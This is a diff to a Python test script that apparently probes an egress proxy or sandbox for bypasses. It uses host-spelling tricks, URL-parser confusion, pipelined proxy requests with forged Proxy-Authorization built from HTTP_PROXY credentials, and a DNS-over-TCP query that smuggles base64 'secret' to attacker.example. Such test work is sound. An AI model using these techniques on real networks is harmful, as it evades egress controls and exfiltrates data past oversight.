@@ -276,6 +276,13 @@ for spelling in (
     ("a_name_that_ends_like_an_allowed_one", "notapp.example"),
     ("a_name_that_begins_like_an_allowed_one", "app.example.attacker.example"),
     ("a_name_that_carries_data", "c2VjcmV0.attacker.example"),
+    ("an_address_with_a_final_dot", "127.0.0.1."),
+    ("an_address_of_wide_digits", "１２７.0.0.1"),
+    ("an_address_with_ideographic_dots", "127。0。0。1"),
+    ("a_name_that_looks_like_an_allowed_one", "\u0430pp.example"),
+    ("a_name_below_localhost", "admin.localhost"),
+    ("a_name_of_a_mapped_address", "mapped.allowed.example"),
+    ("a_name_of_the_unspecified_address", "unspecified.allowed.example"),
 ):
     add_spelling(*spelling)
 
@@ -305,6 +312,77 @@ def request_hidden_in_a_body() -> bool:
     hidden = "GET / HTTP/1.1\r\nHost: internal.example\r\nConnection: close\r\n\r\n"
     headers = f"Host: app.example\r\nContent-Length: {len(hidden) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
     return fetch(f"http://app.example:{PLACES['allowed_site']}/", method="POST", headers=headers + hidden)
+
+
+def send_target(target: str) -> bool:
+    """Request a URL that parsers read differently; without a proxy, the server itself."""
+    url = urlsplit(os.environ.get("HTTP_PROXY", f"http://127.0.0.1:{PLACES['hidden_site']}"))
+    token = base64.b64encode(f"{url.username}:{url.password}".encode()).decode()
+    with socket.create_connection(("127.0.0.1", int(url.port or 0)), SECONDS) as client:
+        target = target if "HTTP_PROXY" in os.environ else "/"
+        head = f"GET {target} HTTP/1.1\r\nHost: app.example\r\nProxy-Authorization: Basic {token}\r\n"
+        client.sendall(f"{head}Connection: close\r\n\r\n".encode())
+        answer = b""
+        while data := client.recv(10_000):
+            answer += data
+        return b"secret" in answer
+
+
+@attempt
+def allowed_name_after_a_backslash() -> bool:
+    return send_target(f"http://127.0.0.1:{PLACES['hidden_site']}\\@app.example:{PLACES['allowed_site']}/")
+
+
+@attempt
+def allowed_name_in_a_fragment() -> bool:
+    return send_target(f"http://127.0.0.1:{PLACES['hidden_site']}#@app.example:{PLACES['allowed_site']}/")
+
+
+@attempt
+def address_in_percent_encoding() -> bool:
+    return send_target(f"http://%31%32%37.0.0.1:{PLACES['hidden_site']}/")
+
+
+def send_two(first: str, second: str, *, together: bool) -> bool:
+    """Send a permitted request and another one on the same connection; without a proxy, only the other one."""
+    if "HTTP_PROXY" not in os.environ:
+        return fetch(second)
+    proxy = urlsplit(os.environ["HTTP_PROXY"])
+    token = base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
+    texts = [
+        f"GET {url} HTTP/1.1\r\nHost: {urlsplit(url).netloc}\r\nProxy-Authorization: Basic {token}\r\n\r\n".encode()
+        for url in (first, second)
+    ]
+    with socket.create_connection(("127.0.0.1", int(proxy.port or 0)), SECONDS) as client:
+        client.settimeout(SECONDS)
+        answer = b""
+        for part in [b"".join(texts)] if together else texts:
+            client.sendall(part)
+            answer += client.recv(10_000)
+        while data := client.recv(10_000):
+            answer += data
+        return b"secret" in answer
+
+
+@attempt
+def second_request_on_a_connection() -> bool:
+    urls = (f"http://app.example:{PLACES['allowed_site']}/", f"http://127.0.0.1:{PLACES['hidden_site']}/")
+    return send_two(*urls, together=False)
+
+
+@attempt
+def second_request_in_the_same_packet() -> bool:
+    urls = (f"http://app.example:{PLACES['allowed_site']}/", f"http://127.0.0.1:{PLACES['hidden_site']}/")
+    return send_two(*urls, together=True)
+
+
+@attempt
+def dns_over_tcp() -> bool:
+    labels = b"".join(bytes([len(label)]) + label for label in (b"c2VjcmV0", b"attacker", b"example")) + b"\0"
+    query = struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!2H", 16, 1)
+    with socket.create_connection(("127.0.0.1", PLACES["tcp"]), SECONDS) as client:
+        client.sendall(struct.pack("!H", len(query)) + query + b"\n")
+        return b"secret" in client.recv(1000)
 
 
 @attempt
